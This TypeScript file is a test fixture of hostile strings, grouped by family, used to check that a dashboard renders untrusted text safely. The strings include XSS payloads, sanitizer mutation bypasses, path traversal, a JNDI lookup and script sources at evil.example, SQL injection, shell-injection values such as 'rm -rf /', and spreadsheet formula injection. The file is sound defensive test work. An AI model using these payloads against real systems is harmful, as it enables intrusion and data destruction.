/** Texts that try to run code, break out, or reorder the text around them, by family; to us each is only a text. */

// Each payload would call this; a page in which it exists has been compromised.
const canary = 'window.__xss=1';

const tags = [
  `<script>${canary}</script>`,
  `<SCRIPT>${canary}</SCRIPT >`,
  `</script><script>${canary}</script>`,
  `<scr<script>ipt>${canary}</scr</script>ipt>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script src="data:text/javascript,${canary}"></script>`,
  `<script type=module>${canary}</script>`,
  `<script\u000b>${canary}</script>`,
  `<img src=x onerror=${canary}>`,
  `<img src=x onerror="${canary}">`,
  `<img/src=x/onerror=${canary}>`,
  `<img src=https://evil.example/pixel.png>`,
  `<img srcset="https://evil.example/set.png 2x">`,
  `<iframe src="javascript:${canary}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${canary}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=prefetch href=https://evil.example/x>`,
  `<form action=https://evil.example/><button>go`,
  `<isindex action="javascript:${canary}" type=image>`,
  `<plaintext>`,
  `<xmp><script>${canary}</script>`,
  `<template><script>${canary}</script></template>`,
  `<portal src=https://evil.example/>`,
  `<dialog open><p>Sign in again</p></dialog>`,
];

const handlers = [
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'ontransitionend',
  'ontoggle',
  'onbeforetoggle',
  'onscroll',
  'onwheel',
  'oncontentvisibilityautostatechange',
].flatMap((handler) => [`<body ${handler}=${canary}>`, `"${handler}="${canary}" autofocus tabindex=0 x="`]);

const openers = [
  `<details open ontoggle=${canary}>`,
  `<input autofocus onfocus=${canary}>`,
  `<select autofocus onfocus=${canary}>`,
  `<video><source onerror=${canary}></video>`,
  `<audio src=x onerror=${canary}>`,
  `<marquee onstart=${canary}>`,
  `'"><img src=x onerror=${canary}>`,
  `' onmouseover='${canary}`,
  `\` onmouseover=\`${canary}`,
  `--><img src=x onerror=${canary}>`,
  `]]><img src=x onerror=${canary}>`,
  `*/${canary}/*`,
  `';${canary};//`,
  `";${canary};//`,
  `\\";${canary};//`,
  `</title><img src=x onerror=${canary}>`,
  `</textarea><img src=x onerror=${canary}>`,
  `</option></select><img src=x onerror=${canary}>`,
];

const drawings = [
  `<svg onload=${canary}>`,
  `<svg/onload=${canary}>`,
  `<svg><script>${canary}</script></svg>`,
  `<svg><script xlink:href="data:,${canary}"/></svg>`,
  `<svg><animate onbegin=${canary} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${canary}"/></svg>`,
  `<svg><a xlink:href="javascript:${canary}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${canary}>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${canary}"/></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${canary}></style></svg>`,
  `<math><mtext><script>${canary}</script></mtext></math>`,
  `<math href="javascript:${canary}">x</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${canary}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${canary}>`,
];

// Texts that a sanitizer makes harmful.
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${canary}>">`,
  `<math><mi//xlink:href="data:x,<script>${canary}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${canary}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${canary}>">`,
  `<table><style><img title="</style><img src=x onerror=${canary}>">`,
  `<a href="\u0001javascript:${canary}">x</a>`,
  `<p id="__xss"><p id="body"><a id=document name=cookie>`,
  `<listing>&lt;img src=x onerror=${canary}&gt;</listing>`,
  `&lt;img src=x onerror=${canary}&gt;`,
  `&#60;script&#62;${canary}&#60;/script&#62;`,
  `\\u003cscript\\u003e${canary}\\u003c/script\\u003e`,
  `%3Cscript%3E${canary}%3C/script%3E`,
  `+ADw-script+AD4-${canary}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${canary}\u00bc/script\u00be`,
  `＜script＞${canary}＜/script＞`,
];

const addresses = [
  `javascript:${canary}`,
  `JaVaScRiPt:${canary}`,
  `java\tscript:${canary}`,
  `java\nscript:${canary}`,
  `\u0000javascript:${canary}`,
  `javascript://%0a${canary}`,
  `javascript&colon;${canary}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${canary}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${canary}>`,
  `blob:https://evil.example/x`,
  `//evil.example/x`,
  `https://evil.example/x`,
  `\\\\evil.example\\share`,
  `file:///etc/passwd`,
  `../../../../etc/passwd`,
  `..%2f..%2fetc%2fpasswd`,
  `C:\\Windows\\win.ini`,
];

const templates = [
  `{{7*7}}`,
  `{{constructor.constructor('${canary}')()}}`,
  `\${${canary}}`,
  `#{${canary}}`,
  `<%= ${canary} %>`,
  `{%if 1%}x{%endif%}`,
  `{{{html}}}`,
  `[[${canary}]]`,
  `@(${canary})`,
  `$$typeof`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${canary}>"}}`,
  `%s%n%x%d`,
  `\${jndi:ldap://evil.example/a}`,
  `'; DROP TABLE samples; --`,
  `' OR '1'='1`,
  `$(touch /tmp/x)`,
  `; rm -rf /`,
];

const styles = [
  `<style>*{display:none}</style>`,
  `</style><img src=x onerror=${canary}>`,
  `<style>@import'https://evil.example/x.css';</style>`,
  `<div style="position:fixed;inset:0;background:red;z-index:9999">`,
  `background:url(https://evil.example/x.png)`,
  `;color:red}*{visibility:hidden}`,
  `red;background:url(//evil.example/x)`,
  `url(javascript:${canary})`,
  `expression(${canary})`,
  `var(--bg)`,
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  '__lookupSetter__',
  'then',
  'toJSON',
  'length',
  'null',
  'undefined',
  'NaN',
  'true',
  '-0',
  '1e999',
  '[object Object]',
];

// Texts that a spreadsheet treats as a formula.
const formulas = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://evil.example","x")`,
  `+1+1`,
  `-2+3`,
  `@SUM(1+1)`,
  `\t=1+1`,
  `\r=1+1`,
  `;=1+1`,
  `"=1+1"`,
];

/** Bidirectional texts, which must not affect the words around them. */
const turning = [
  'override \u202eesrever',
  'override closed \u202eesrever\u202c',
  'left \u202dover',
  'embedding \u202bright',
  'isolate \u2067right',
  'ends \u2069\u202eesrever',
  'ends twice \u2069\u2069\u202eesrever',
  'paragraph \u2029\u202eesrever',
  'line \u0085\u202eesrever',
  'picture\u202egnp.exe',
  '\u200fmark',
  'שלום עולם',
  'مرحبا 123',
  'a שלום b',
  '\u061c12-34',
];

const shapes = [
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354lgo',
  `tall${'\u0301'.repeat(120)}`,
  `deep${'\u0323'.repeat(120)}`,
  '👩‍👩‍👧‍👦 family',
  '🏳️‍🌈🏴‍☠️🇩🇪',
  '👍🏽'.repeat(40),
  '\u200b\u200c\u200d\ufeff hidden',
  'a\u00adb\u00adc soft',
  '\u2028line\u2028separator',
  '\u0007bell\u001b[31mred\u001b]0;title\u0007',
  'nul\u0000within',
  '\u0000',
  'half \ud83d',
  '\udc4d half',
  'e\u0301 and \u00e9',
  '\ufdfd\u{12031}',
  '\u115f\u3164 filler',
  '\u{e0041}\u{e0042} tags',
  '\ufffd\ufffe\uffff',
  'line one\nline two\r\nline three',
  ' \t leading and trailing \t ',
  'long-'.repeat(2000),
  'W'.repeat(10_000),
  '名'.repeat(3000),
];

/** The families by name. */
export const hostileFamilies = {
  tags,
  handlers,
  openers,
  drawings,
  mutations,
  addresses,
  templates,
  styles,
  names,
  formulas,
  turning,
  shapes,
} as const;

/** All of them. */
export const hostileStrings: readonly string[] = Object.values(hostileFamilies).flat();

/** Elements and attributes that the dashboard never has: one that is found came from a text. */
export const foreignElements =
  'iframe, object, embed, base, form[action], math, marquee, template, meta[http-equiv], script:not([src]), ' +
  '[autofocus], [srcdoc], [href^="javascript" i], [src^="javascript" i], [style*="inset"][style*="red"]';
